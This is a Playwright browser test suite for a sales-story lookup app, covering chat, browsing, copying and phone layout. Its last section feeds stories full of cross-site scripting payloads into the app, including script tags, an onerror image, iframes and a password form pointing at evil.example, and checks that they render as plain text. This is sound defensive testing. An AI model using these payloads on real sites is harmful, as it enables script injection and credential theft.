"""Journeys through the running app in a real browser, with the real model: a rep, and stories that mean harm."""

import re
from dataclasses import replace

import pytest
from playwright.sync_api import expect

from library.sharing.safe import safe_version
from library.shelf import Shelf
from tests.helpers import TODAY, make_story, write_shelf
from tests.journeys import MESSY, PHONE, box, cards, copied, fits_the_width, in_a_browser, say, serve, settled, titles

pytestmark = in_a_browser


# --- A rep, five minutes before a call --------------------------------------------------------------------------------


def test_two_messy_lines_bring_a_story_its_quote_its_question_and_what_may_be_said(page, server):
    say(page, MESSY)
    assert 1 <= cards(page).count() <= 3
    nurses = cards(page).filter(has_text="A third of the ward nurses left in two years")
    expect(nurses).to_be_visible()
    story = Shelf.read(server.stories).stories["hospital-agency-nurses"]
    expect(nurses.get_by_text(story.quote).first).to_be_visible()
    expect(nurses.get_by_text(story.question).first).to_be_visible()
    expect(nurses.get_by_text("Say the name aloud only")).to_be_visible()
    expect(nurses.get_by_text(f"Told by {story.told_by}")).to_be_visible()
    nurses.get_by_text("The whole story").click()
    expect(nurses.get_by_text("The first win", exact=True)).to_be_visible()


def test_follow_ups_chips_and_a_new_prospect(page):
    say(page, MESSY)
    first = titles(page)
    say(page, "only in Europe")
    chip = page.get_by_role("button", name="Only Europe")
    expect(chip).to_be_visible()
    second = titles(page)[1]
    say(page, "more like the second")
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text(f"most like “{second}”")
    assert second not in titles(page)
    seen = {*first, *titles(page)}
    say(page, "show others")
    assert titles(page)
    assert not seen & set(titles(page))
    there = titles(page)
    say(page, "how long did it take them?")
    expect(page.get_by_test_id("stChatMessage").nth(1).get_by_role("link", name="Open the story")).to_be_visible()
    assert titles(page) == there
    chip.click()
    expect(page.get_by_test_id("stChatMessage").first).to_contain_text("Without “Only Europe”")
    expect(chip).to_be_hidden()
    page.get_by_text("Earlier in this talk").click()
    expect(page.get_by_text("only in Europe", exact=True)).to_be_visible()
    say(page, "new prospect")
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("What changed for them?")
    assert titles(page) == []
    page.get_by_role("button", name="New prospect").click()
    expect(page.get_by_role("heading", name="Who are you about to call?")).to_be_visible()


def test_a_story_opened_its_link_and_its_safe_version_copied_and_the_link_opened(page, context, server):
    page.get_by_text("Nurses keep leaving and temp staff cost a fortune").click()
    card = cards(page).first
    expect(card).to_be_visible()
    settled(page)
    title = titles(page)[0]
    card.get_by_role("link", name="Open the story").click()
    expect(page.get_by_role("heading", name=title, level=1)).to_be_visible()
    settled(page)
    link = copied(page, page, "Copy the link")
    assert re.fullmatch(re.escape(server.url) + r"/story\?story=[a-z0-9-]+", link)
    safe = copied(page, page, "Copy the safe version")
    story = Shelf.read(server.stories).stories[link.rpartition("=")[2]]
    assert safe == safe_version(story, TODAY)
    other = context.new_page()
    other.goto(link)
    expect(other.get_by_role("heading", name=title, level=1)).to_be_visible()
    expect(other.get_by_text("The first win", exact=True)).to_be_visible()
    expect(other.get_by_role("button", name="Listen")).to_be_visible()


def test_the_copy_on_a_card_never_holds_a_name_that_is_only_said(page):
    say(page, MESSY)
    card = cards(page).filter(has_text="A third of the ward nurses left in two years")
    expect(card.get_by_text("Fjordheim Helse", exact=True)).to_be_visible()
    safe = copied(page, card, "Copy the safe version")
    assert "3,400-person hospital group in Norway" in safe
    assert "Fjordheim" not in safe


def test_a_link_to_a_story_that_is_not_there_gets_a_sentence(context, server):
    page = context.new_page()
    page.goto(f"{server.url}/story?story=no-such-story")
    expect(page.get_by_text("There is no story called “no-such-story” here")).to_be_visible()
    page.get_by_role("link", name="Ask for a story").click()
    expect(box(page)).to_be_visible()


@pytest.mark.parametrize("words", ["hello", "what's the weather like in Bergen tomorrow?"])
def test_off_topic_gets_no_story(page, words):
    say(page, words)
    expect(page.get_by_test_id("stChatMessage")).to_have_count(2)
    assert titles(page) == []


def test_nothing_fits_is_said_and_a_chip_taken_away_brings_stories(page):
    say(page, f"only banks in Latin America. {MESSY}")
    expect(page.get_by_test_id("stChatMessage").nth(1)).to_contain_text("Nothing on the shelf fits under")
    assert titles(page) == []
    expect(page.get_by_role("link", name="Browse the shelf")).to_be_visible()
    page.get_by_role("button", name="Only banking").click()
    expect(page.get_by_test_id("stChatMessage").first).to_contain_text("Without “Only banking”")
    settled(page)
    page.get_by_role("button", name="Only Latin America").click()
    expect(cards(page).first).to_be_visible()


def test_by_keyboard_alone(page):
    for _ in range(12):
        page.keyboard.press("Tab")
        if box(page).evaluate("element => element === document.activeElement"):
            break
    else:
        pytest.fail("twelve tabs do not lead to the box")
    page.keyboard.type("Our distributor is undercut by an online marketplace")
    page.keyboard.press("Enter")
    expect(cards(page).first).to_be_visible()


def test_somebody_who_signs_in_as_the_teller_sees_the_name(context, server):
    page = context.new_page()
    page.goto(f"{server.url}/story?story=hospital-implant-recall")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    settled(page)
    expect(page.get_by_text("Klinikverbund Ostravelde")).to_have_count(0)
    page.get_by_role("button", name="Your name").click()
    page.get_by_role("combobox", name="Your name").fill("Aiko Mori")
    page.get_by_role("combobox", name="Your name").press("Enter")
    expect(page.get_by_text("Klinikverbund Ostravelde", exact=True)).to_be_visible()
    expect(page.get_by_role("button", name="Aiko Mori")).to_be_visible()


# --- Browse -----------------------------------------------------------------------------------------------------------


def test_browse_by_industry_and_filter_makes_a_link_that_works(context, server):
    page = context.new_page()
    page.goto(f"{server.url}/browse")
    page.get_by_role("radio", name="Banking (5)").click()
    expect(page.get_by_text("5 stories", exact=True)).to_be_visible()
    settled(page)
    page.get_by_text("Filter", exact=True).click()
    wanted = page.get_by_role("option", name="A new rule (1)")
    for _ in range(20):  # a list opened while the filters unfold is closed again
        page.get_by_role("combobox", name="What changed").fill("A new rule")
        page.wait_for_timeout(1000)
        if wanted.is_visible():
            break
    wanted.click()
    expect(page.get_by_text("1 story", exact=True)).to_be_visible()
    expect(page).to_have_url(re.compile(r"/browse\?industry=banking&change=regulation$"))
    other = context.new_page()
    other.goto(page.url)
    expect(other.get_by_text("1 story", exact=True)).to_be_visible()


def test_what_changes_in_the_folder_shows_without_a_click(context, server):
    page = context.new_page()
    page.goto(f"{server.url}/browse")
    expect(page.get_by_text("62 stories", exact=True)).to_be_visible()
    write_shelf(server.stories, make_story("new-here", title="A story put in while you look"))
    try:
        expect(page.get_by_text("63 stories", exact=True)).to_be_visible()
        expect(page.get_by_role("link", name="A story put in while you look")).to_be_visible()
        write_shelf(server.stories, make_story("new-here", title="A story edited while you look"))
        expect(page.get_by_role("link", name="A story edited while you look")).to_be_visible()
        other = context.new_page()
        other.goto(f"{server.url}/story?story=new-here")
        expect(other.get_by_role("heading", name="A story edited while you look")).to_be_visible()
    finally:
        (server.stories / "new-here.md").unlink()
    expect(page.get_by_text("62 stories", exact=True)).to_be_visible()
    expect(other.get_by_text("There is no story called “new-here” here")).to_be_visible()


# --- Phone width ------------------------------------------------------------------------------------------------------


def test_nothing_is_wider_than_a_phone(context, server):
    page = context.new_page()
    page.set_viewport_size(PHONE)
    page.goto(server.url)
    expect(box(page)).to_be_visible()
    assert fits_the_width(page), "the first screen"
    say(page, f"only in Europe, not public sector, for a CFO. {MESSY}")
    expect(cards(page).first).to_be_visible()
    assert fits_the_width(page), "cards and chips"
    for path, heading in (
        ("browse", "Browse the shelf"),
        ("story?story=hospital-agency-nurses", "A third of the ward nurses left in two years"),
        ("story?story=hotel-booking-platforms", ""),
        ("story?story=" + "unknown-" * 12, ""),
    ):
        page.goto(f"{server.url}/{path}")
        expect(
            page.get_by_role("heading", name=heading, level=1) if heading else page.get_by_role("alert")
        ).to_be_visible()
        settled(page)
        assert fits_the_width(page), path


# --- Stories that mean harm -------------------------------------------------------------------------------------------

HARM = (
    "<script>alert('script')</script> "
    "<img src=x onerror=\"alert('img')\"> ![picture](https://evil.example/pixel.png) "
    "<form action='https://evil.example'><input name='password'></form> "
    "[a link](javascript:alert('link')) $\\alpha + \\beta$ $$x^2$$ **bold** # heading `code` :red[red] :smile: "
    "<iframe src='https://evil.example/frame'></iframe> <style>body { display: none }</style>"
)
LITERAL = ("<script>alert('script')</script>", "[a link](javascript:alert('link'))", "$\\alpha + \\beta$", "**bold**")
ONE_LINE = HARM.replace('"', "'")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A shelf where every field of a story tries something."""
    folder = tmp_path_factory.mktemp("hostile")
    beats = dict.fromkeys(
        ("who", "change", "pain", "need", "win", "question"), f"{HARM}\n\nThe sardine boats stayed in."
    )
    written = make_story("harm", {**beats, "decision": f'"{ONE_LINE} sardine boats"'})
    fields = dict.fromkeys(("title", "customer", "alias", "near_miss", "surprise", "announced_to", "not_for"), ONE_LINE)
    people = dict.fromkeys(("told_by", "owner", "heard_from", "verified_by"), "Eve ![p](https://evil.example/p.png)")
    lists = {"alternatives": (ONE_LINE,), "tags": ("quota", ONE_LINE, "tins"), "contributors": (ONE_LINE,)}
    harm = replace(written, **fields, **people, **lists)
    stories = write_shelf(folder / "stories", harm, replace(harm, id="harm-too"), make_story("sound"))
    running = serve(stories, folder / "data", "none")
    yield running
    running.process.terminate()
    running.process.wait(30)


def harmless(page) -> None:
    """No element came out of the story but a bare address that links to itself; the fixture sees to requests."""
    settled(page)
    found = page.evaluate(
        """() => [...document.querySelectorAll(`[data-testid=stApp] :is(script, form[action*=evil], iframe, img, .katex,
        input[name=password], a[href^="javascript:"], [href*=evil]:not([href^="credit?person="]), [src*=evil])`)]
        .filter(e => e.textContent !== decodeURI(e.getAttribute("href") ?? "/")).map(e => e.outerHTML)"""
    )
    assert found == []
    body = page.get_by_test_id("stMain").inner_text()
    for said in LITERAL:
        assert said in body, said


def test_a_hostile_story_is_shown_as_text_everywhere(context, hostile):
    assert len(Shelf.read(hostile.stories)) == 3
    page = context.new_page()
    page.goto(f"{hostile.url}/browse")
    expect(page.get_by_text("3 stories", exact=True)).to_be_visible()
    harmless(page)
    page.goto(f"{hostile.url}/story?story=harm")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    harmless(page)
    page.goto(hostile.url)
    say(page, "sardine boats stayed in, tins, the ministry closed the grounds quota")
    expect(cards(page).first).to_be_visible()
    cards(page).filter(has_text="script").first.get_by_text("The whole story").click()
    harmless(page)
    say(page, "what did they say?")
    say(page, f"new prospect, {ONE_LINE} sardine boats")
    page.get_by_text("Earlier in this talk").click()
    harmless(page)


def test_a_hostile_teller_s_name_is_text_at_the_desk(context, hostile):
    page = context.new_page()
    page.goto(f"{hostile.url}/story?story=harm")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    settled(page)
    page.get_by_role("button", name="Your name").click()
    page.get_by_role("combobox", name="Your name").click()
    page.get_by_role("option", name="Eve").click()
    expect(page.get_by_role("button", name="Eve ![p](https://evil.example/p.png)")).to_be_visible()
    harmless(page)


def test_copied_text_is_what_was_written(context, hostile):
    page = context.new_page()
    page.goto(f"{hostile.url}/story?story=harm")
    safe = copied(page, page, "Copy the safe version")
    assert "<script>alert('script')</script>" in safe
